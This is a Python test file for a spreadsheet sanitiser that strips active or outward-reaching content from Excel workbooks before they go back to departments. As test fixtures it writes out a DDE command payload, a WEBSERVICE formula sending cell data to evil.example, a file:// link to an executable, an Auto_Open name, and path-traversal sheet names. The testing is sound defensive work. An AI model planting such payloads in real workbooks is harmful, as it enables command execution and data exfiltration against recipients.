"""Nothing that runs or leads outside goes back to a department, in a cell or elsewhere."""

from __future__ import annotations

import zipfile
from pathlib import Path

import openpyxl
import pytest
from openpyxl.formatting.rule import Rule
from openpyxl.workbook.defined_name import DefinedName
from openpyxl.worksheet.datavalidation import DataValidation

from dagster_project.ingest.returning import Case, Finding, rewritten
from dagster_project.ingest.returning.parts import cut

DDE, CALL = "cmd|'/c calc'!A1", 'WEBSERVICE("http://evil.example/"&A2)'


def test_what_runs_outside_of_cells_is_cut(tmp_path: Path) -> None:
    """Names, validations, rules and links; what only points into the book stays."""
    book = openpyxl.Workbook()
    sheet = book.worksheets[0]
    sheet.append(["编号", "链接"])
    sheet["B2"] = "文件"
    sheet["B2"].hyperlink = "file://evil.example/x.exe"
    for formula in (DDE, CALL, '"是,否"'):
        validation = DataValidation(type="list", formula1=formula)
        sheet.add_data_validation(validation)
        validation.add("A2")
    sheet.conditional_formatting.add("A1:A9", Rule(type="expression", formula=[CALL]))
    sheet.conditional_formatting.add(
        "B1:B9", Rule(type="cellIs", operator="lessThan", formula=["0"])
    )
    named = {"_xlnm.Auto_Open": "Sheet!$A$1", "call": CALL, "dde": DDE, "range": "Sheet!$A$1:$B$2"}
    for name, text in named.items():
        book.defined_names[name] = DefinedName(name, attr_text=text)
    source, out = tmp_path / "in.xlsx", tmp_path / "out.xlsx"
    book.save(source)
    read = openpyxl.load_workbook(source)
    cut(read)
    read.save(out)
    with zipfile.ZipFile(out) as archive:
        written = b"".join(archive.read(name) for name in archive.namelist())
    for mark in (b"evil", b"cmd|", b"WEBSERVICE", b"Auto_Open", b"TargetMode"):
        assert mark not in written
    kept = openpyxl.load_workbook(out)
    assert list(kept.defined_names) == ["range"]
    assert len(kept.worksheets[0].data_validations.dataValidation) == 1
    assert [str(one.sqref) for one in kept.worksheets[0].conditional_formatting] == ["B1:B9"]


@pytest.mark.parametrize("name", ["../../x", "a[b]:c*?", "长" * 60, "'", "a\x07\ud800"])
def test_any_sheet_name_can_be_returned(tmp_path: Path, name: str) -> None:
    """Sheets of other kinds of files may be called what a workbook's must not."""
    cases = {(name, 2): Case("甲", (Finding("错", ("a",)),))}
    rows = iter([(name, 2, ["1"]), (f"{name} ", 2, ["2"])])
    target, copy = rewritten(tmp_path, lambda kind: f"o.{kind}", [("a", "编号")], rows, cases)
    assert copy.rows == 1
    assert len(openpyxl.load_workbook(target).sheetnames) == 2
